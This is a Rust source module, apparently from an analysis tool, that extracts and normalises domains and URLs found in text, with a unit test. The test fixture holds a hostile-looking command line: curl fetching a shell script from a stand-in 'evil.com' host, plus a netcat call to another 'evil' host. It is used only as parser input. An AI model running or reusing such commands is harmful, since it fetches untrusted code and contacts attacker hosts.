//! The domains and URLs that a text names, for expressions: what has no expression is found by its value (`words`).

use std::ops::Range;

use bstr::ByteSlice;

use super::value::{Kind, Value, is_domain};

/// Most names of one text.
const MOST: usize = 4096;
/// Bytes of a domain, of a URL and of its scheme.
const DOMAIN: usize = 253;
const URL: usize = 2048;
const SCHEME: usize = 20;

/// Places in a text, each with the value there in its usual form.
pub(in crate::analysis) type Named = Vec<(Range<usize>, String)>;

/// The domains in a text.
pub(in crate::analysis) fn domains(text: &[u8]) -> Named {
    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
    let mut all = Vec::new();
    let mut at = 0_usize;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty() && all.len() < MOST) {
        let len = rest.iter().position(|byte| !is_word(byte)).unwrap_or(rest.len());
        let word = rest.get(..len).unwrap_or_default();
        let name = word.trim_start_with(|c| matches!(c, '.' | '-')).trim_end_with(|c| matches!(c, '.' | '-' | '_'));
        let start = at.saturating_add(word.find(name).unwrap_or(0));
        at = at.saturating_add(len).saturating_add(1);
        let name = name.to_str().ok().filter(|name| name.len() <= DOMAIN && is_domain(name));
        if let Some(name) = name {
            all.push((start..start.saturating_add(name.len()), name.to_ascii_lowercase()));
        }
    }
    all
}

/// The URLs in a text.
pub(in crate::analysis) fn urls(text: &[u8]) -> Named {
    let is_of_scheme = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.');
    let is_of_url = |byte: &u8| byte.is_ascii_graphic() && !b"\"<>\\^`{|}".contains(byte);
    let mut all = Vec::new();
    for colon in text.find_iter("://").take(MOST) {
        let before = text.get(colon.saturating_sub(SCHEME)..colon).unwrap_or_default();
        let scheme = before.iter().rev().take_while(|byte| is_of_scheme(byte)).count();
        let start = colon.saturating_sub(scheme);
        let rest = text.get(start..text.len().min(start.saturating_add(URL))).unwrap_or_default();
        let len = rest.iter().position(|byte| !is_of_url(byte)).unwrap_or(rest.len());
        let url = rest.get(..len).unwrap_or_default();
        let url = url.trim_end_with(|c| matches!(c, '.' | ',' | ';' | ':' | '!' | '\'' | ')' | ']' | '*'));
        if let Some(value) = url.to_str().ok().filter(|_| scheme > 0).and_then(|url| Value::new(Kind::Url, url).ok()) {
            all.push((start..start.saturating_add(url.len()), value.text));
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(named: &Named) -> Vec<&str> {
        named.iter().map(|(_, text)| text.as_str()).collect()
    }

    #[test]
    fn a_text_names_domains_and_urls() {
        let text = b"curl -s 'http://A.Evil.com:8080/x.sh?y'; nc -x pool.evil.net. 1.2.3.4 --host=c.org \xff://b";
        assert_eq!(texts(&domains(text)), ["a.evil.com", "x.sh", "pool.evil.net", "c.org"]);
        assert_eq!(texts(&urls(text)), ["http://a.evil.com:8080/x.sh?y"]);
        for (range, value) in domains(text).into_iter().chain(urls(text)) {
            assert!(text[range].eq_ignore_ascii_case(value.as_bytes()));
        }
    }
}
